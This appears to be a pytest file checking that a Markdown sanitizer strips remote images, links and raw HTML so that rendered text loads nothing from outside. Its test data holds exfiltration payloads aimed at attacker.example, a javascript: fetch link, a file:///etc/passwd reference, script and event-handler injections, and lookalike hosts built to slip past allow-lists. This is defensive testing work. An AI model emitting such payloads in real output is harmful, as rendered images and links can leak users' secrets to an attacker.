"""ui.render.safe_markdown on hostile text: nothing remote loads, no HTML runs, Markdown and code survive.

Each output is checked by rendering it with a separate CommonMark parser (markdown-it-py
with every URL scheme accepted, raw HTML on, like a permissive viewer): it must contain no
<img>, no <a> and no tag the text wrote.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

import ui.render
from ui.render import safe_label, safe_markdown

HOST = "attacker.example"


def to_html(text: str) -> str:
    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    viewer.validateLink = lambda url: True
    return viewer.render(text)


def loads_or_links(html: str) -> list[str]:
    """Every element in the HTML that would fetch or link a URL, or that the text wrote itself."""
    return re.findall(r"<(?:img|a|div|iframe|script|svg|video|source)\b[^>]*>", html)


HOSTILE = {
    "inline image": f"Done! ![x](https://{HOST}/p.png?d=SECRET)",
    "image with title and markup in alt": f'![a *b* `c`](https://{HOST}/p.png "t")',
    "link": f"Click [here](https://{HOST}/?d=SECRET).",
    "autolink": f"See <https://{HOST}/?d=SECRET>.",
    "reference image": f"![logo][r] and text\n\n[r]: https://{HOST}/r.png",
    "reference link": f"[docs][r]\n\n[r]: https://{HOST}/r",
    "shortcut reference image": f"![r]\n\n[r]: https://{HOST}/r.png",
    "html img inline": f'text <img src="https://{HOST}/i.png"> more',
    "html img block": f'<img src="https://{HOST}/i.png">',
    "html block with nested tags": f"<div>\n<img src=https://{HOST}/i.png>\n</div>\n\nafter",
    "image in a blockquote over two lines": f"> look ![a\n> b](https://{HOST}/q.png) here",
    "image in a list item": f"- one\n- two ![i](https://{HOST}/l.png)\n  more",
    "image in a heading": f"# Title ![h](https://{HOST}/h.png)",
    "image in a table cell": f"| a | b |\n|---|---|\n| `x` | ![t](https://{HOST}/t.png) |",
    "image in a table cell with an escaped pipe": f"| a |\n|---|\n| x \\| ![t](https://{HOST}/t.png) |",
    "image inside a link": f"[![i](https://{HOST}/i.png)](https://{HOST}/l)",
    "image in a link label": f"[see ![i](https://{HOST}/i.png) now](https://{HOST}/l)",
    "scheme-relative image": f"![x](//{HOST}/p.png)",
    "file and javascript schemes": f"![f](file:///etc/passwd) [j](javascript:fetch('//{HOST}'))",
    "angle-bracket destination with a space": f"![x](<https://{HOST}/a b.png>)",
    "CRLF line endings": f"line\r\n![x](https://{HOST}/crlf.png)\r\n",
    "adjacent images": f"![a](https://{HOST}/1.png)![b](https://{HOST}/2.png)",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_loads_and_links_nothing(text):
    assert loads_or_links(to_html(text)), "the case must be hostile when drawn as it is"
    safe = safe_markdown(text, allowed=())
    html = to_html(safe)
    assert loads_or_links(html) == [], safe
    assert safe_markdown(safe, allowed=()) == safe  # settled: a second pass changes nothing


def test_the_url_is_shown_as_text_not_lost():
    safe = safe_markdown(f"![chart](https://{HOST}/c.png?d=SECRET) and [docs](https://{HOST}/docs)", allowed=())
    html = to_html(safe)
    assert "image: chart" in html and "d=SECRET" in html and "docs" in html
    assert f"<code>https://{HOST}/c.png?d=SECRET</code>" in html and f"<code>https://{HOST}/docs</code>" in html


def test_data_images_are_dropped_url_and_all():
    safe = safe_markdown("a ![plot](data:image/png;base64,iVBORw0KGgo=) b", allowed=())
    assert "data:" not in safe and "<img" not in to_html(safe) and "image: plot" in to_html(safe)


def test_html_is_shown_as_text():
    text = '<script>alert(1)</script> and <b onmouseover="x">bold</b>'
    html = to_html(safe_markdown(text, allowed=()))
    assert "<script" not in html and "<b " not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "&lt;b onmouseover=" in html


def test_code_is_left_verbatim_while_the_image_beside_it_is_not():
    code = f"`![x](https://{HOST}/span.png)`\n\n```md\n![x](https://{HOST}/fence.png)\n<img src=x>\n```\n\n"
    indented = f"    ![x](https://{HOST}/indented.png)\n\n"
    safe = safe_markdown(code + indented + f"Real: ![x](https://{HOST}/real.png)", allowed=())
    assert safe.startswith(code + indented)
    assert "Real: \\[image: x\\]" in safe and "<img" not in to_html(safe)


def test_plain_markdown_and_latex_are_unchanged_byte_for_byte():
    texts = [
        "Hello! **Bold** and $x^2$.",
        "$$\\frac{a}{b} = [0, 1]$$ and $f(x) = \\{x < 1\\}$",
        "| a | b |\n|---|---|\n| [x] | 1 < 2 |\r\n",
        "- [ ] task\n- [x] done\n\n> quote with a bare URL https://example.com",
    ]
    for text in texts:
        assert safe_markdown(text, allowed=()) == text


def test_allowed_hosts_keep_their_images_and_nothing_else(monkeypatch):
    monkeypatch.setenv("MARKDOWN_ALLOWED_HOSTS", "images.example, docs.example")
    ui.render.allowed_hosts.cache_clear()  # the setting is read once per process
    monkeypatch.setattr(ui.render, "allowed_hosts", ui.render.allowed_hosts.__wrapped__)
    kept = "![ok](https://images.example/a.png) [docs](https://docs.example/x)"
    assert safe_markdown(kept) == kept
    for lookalike in (
        "https://images.example.attacker.example/a.png",
        "https://images.example@attacker.example/a.png",
        "https://attacker.example/?images.example",
        "https://images.example\\@attacker.example/a.png",
        "ftp://images.example/a.png",
    ):
        assert "<img" not in to_html(safe_markdown(f"![x]({lookalike})")), lookalike


def test_labels_are_one_line_and_load_nothing():
    label = safe_label(f'get_weather({{"city": "![x](https://{HOST}/label.png)\\n<img src=y>"}})\nsecond line')
    assert "\n" not in label
    assert loads_or_links(to_html(label)) == [] and "&lt;img src=y&gt;" in to_html(label)
